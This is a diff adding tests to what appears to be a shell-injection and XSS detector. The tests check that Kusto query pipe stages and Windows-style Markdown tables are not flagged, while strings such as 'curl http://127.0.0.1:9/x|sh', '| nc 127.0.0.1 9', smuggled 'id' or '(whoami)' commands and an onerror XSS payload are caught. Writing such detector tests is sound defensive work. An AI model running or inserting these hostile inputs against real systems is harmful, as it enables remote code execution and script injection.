@@ -3981,3 +3981,24 @@ t.test("the forty-third round's readings are bounded: cut bodies nested past the
   t.ok(body(`{${Array.from({ length: 600 }, (_, i) => `"k${i}":"v${i}"`).join(',')},"z":"<img src=x onerror=alert(1)> ${'x'.repeat(20_000)}"}`).includes('xss'), 'and markup before the cut in it')
   t.doesNotThrow(() => body(`{"a":"${'\\\\'.repeat(10_000)}`), 'a cut string of backslashes')
 })
+
+t.test("forty-fourth round: a Kusto query's stages are a table's rows filtered, ordered and picked; a Windows page's table rows", async (t) => {
+  // Azure Monitor workbooks' queries (Log Analytics, Data Explorer): stages on lines of their own, and a query of one line
+  const kql = 'let Usage = ADXTableUsageStatistics\r\n| where TimeGenerated {TimeRange}\r\n| where DatabaseName == \'{DatabaseName}\'\r\n| extend Days = datetime_diff(\'day\', StartedOn, MinCreatedOn)\r\n| summarize Count=count() by User, ApplicationName\r\n| top 10 by Count desc\r\n| project User, Count;\r\nUsage\r\n| sort by Count nulls last\r\n| take 5\r\n'
+  t.same(json({ query: kql }), [], 'a multi-line query')
+  t.same(json({ query: "let Now=now(); Availability_CL | where Instance_s == '{Instance}' | top 1 by TimeGenerated desc | extend Down = iff(Now - TimeGenerated > 20min, 1, 0)" }), [], 'a one-line query')
+  for (const v of ['| where "a" == "a"', "| where 1 == 1", "| where ClusterId =~ '{clusterId}'", '| top 1 by isMissing asc', '| sort by IngestionVolume nulls last', '| project DataType', '| where isnotempty(Computer)', '| where Level in ("Error", "Warning")', '| render timechart', '| union Perf', '| mv-expand Tags', '| parse Message with * "user=" User " " *']) {
+    t.same(json({ query: v }), [], `a condition's query alone: ${v}`)
+    t.notOk(shellInjection(v.toLowerCase()), `and to the shell: ${v}`)
+  }
+  // what a shell runs stays read: options, a program in parentheses, another command after the stage, a redirection's own command
+  for (const v of ['| top -b -n 1', '| top 1 by (whoami)', '|top 1 by x; id', '| where x == 1 | id', '| sort by x && curl http://127.0.0.1:9/x|sh', 'x; top 5 by cpu | nc 127.0.0.1 9', '| where /r c:\\ *.conf']) {
+    t.ok(shellInjection(v.toLowerCase()), v)
+  }
+  for (const v of ['1 | top 1 by (whoami)', "x' | sort by y; id #", '| where x == 1 | id']) t.ok(q(v).includes('rce'), v)
+  // a Markdown table written on Windows (CRLF) is a table: its header's `|Date|` runs nothing; a row a command line ends is still read
+  const page = (rows: string) => json({ body: `## Release notes\r\n\r\n|Version|Description|Date|\r\n|---|---|---|\r\n${rows}` })
+  t.same(page('| v1.0 | initial release | April 1, 2024 |\r\n'), [], 'a CRLF table')
+  t.ok(page('| v1.0 | initial release | April 1, 2024 |\r\n\r| curl -s http://127.0.0.1:9/x|sh #|\n').includes('rce'), 'a carriage return alone still parts no row')
+  t.ok(page('| v1.0 | x |\r\n; curl -s http://127.0.0.1:9/x|sh\r\n').includes('rce'), 'a command line under the table')
+})
